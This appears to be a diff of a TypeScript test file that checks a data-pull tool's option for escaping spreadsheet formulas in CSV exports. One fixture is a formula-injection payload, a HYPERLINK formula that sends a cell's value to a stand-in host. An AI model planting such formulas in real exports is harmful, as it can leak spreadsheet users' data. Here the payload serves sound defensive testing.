@@ -879,16 +879,45 @@ describe('cdapi-pull progress', () => {
     );
   });
 
-  it('writes null as an empty CSV field and the empty string quoted, as COPY … CSV reads them', () => {
-    assert.deepEqual([null, '', ' ', 'a,b', 'say "hi"', 'two\nlines', 12.5, '=1+1'].map(csvField), [
-      '',
-      '""',
-      ' ',
-      '"a,b"',
-      '"say ""hi"""',
-      '"two\nlines"',
-      '12.5',
-      '=1+1',
+  it('begins text a spreadsheet would run as a formula with a quote, with --csv-escape-formulas only', async (t) => {
+    const { api, base, key, out, dir } = await pullSetup(t);
+    await api.load([
+      expense(1, 2, 3, 1, {
+        title: '=HYPERLINK("http://x.example/?"&A1,"Open")',
+        merchant_name: '-2+3',
+      }),
     ]);
+    const csv = join(dir, 'csv');
+    const titleOf = () => {
+      const lines = readFileSync(join(csv, 'expenses.csv'), 'utf8').split('\r\n');
+      return lines.find((line) => line.startsWith('2,')) ?? '';
+    };
+    const args = ['--base-url', base, '--out', out, '--csv', csv];
+    assert.equal((await runPull(args, key)).code, 0);
+    assert.match(titleOf(), /,"=HYPERLINK\(""http:\/\/x\.example\/\?""&A1,""Open""\)",/);
+    assert.match(titleOf(), /,-2\+3,/);
+    assert.equal((await runPull([...args, '--csv-escape-formulas'], key)).code, 0);
+    assert.match(titleOf(), /,"'=HYPERLINK\(""http:\/\/x\.example\/\?""&A1,""Open""\)",/);
+    assert.match(titleOf(), /,'-2\+3,/);
+    // The mirror keeps the values as they are.
+    const { tables } = readMirror(out);
+    assert.equal(tables.expenses?.find((row) => row.id === 2)?.merchant_name, '-2+3');
+    const alone = await runPull(['--base-url', base, '--out', out, '--csv-escape-formulas'], key);
+    assert.equal(alone.code, 2);
+    assert.match(alone.stderr, /--csv-escape-formulas: give --csv DIR too/);
+  });
+
+  it('writes null as an empty CSV field and the empty string quoted, as COPY … CSV reads them', () => {
+    assert.deepEqual(
+      [null, '', ' ', 'a,b', 'say "hi"', 'two\nlines', 12.5, '=1+1'].map((value) =>
+        csvField(value),
+      ),
+      ['', '""', ' ', '"a,b"', '"say ""hi"""', '"two\nlines"', '12.5', '=1+1'],
+    );
+    const escaped = (value: string | number | null) => csvField(value, true);
+    assert.deepEqual(
+      ['=1+1', '+90 555', '-2', '@SUM(A1)', '\tx', '\rx', 'a=b', -2, null, ''].map(escaped),
+      ["'=1+1", "'+90 555", "'-2", "'@SUM(A1)", "'\tx", `"'\rx"`, 'a=b', '-2', '', '""'],
+    );
   });
 });
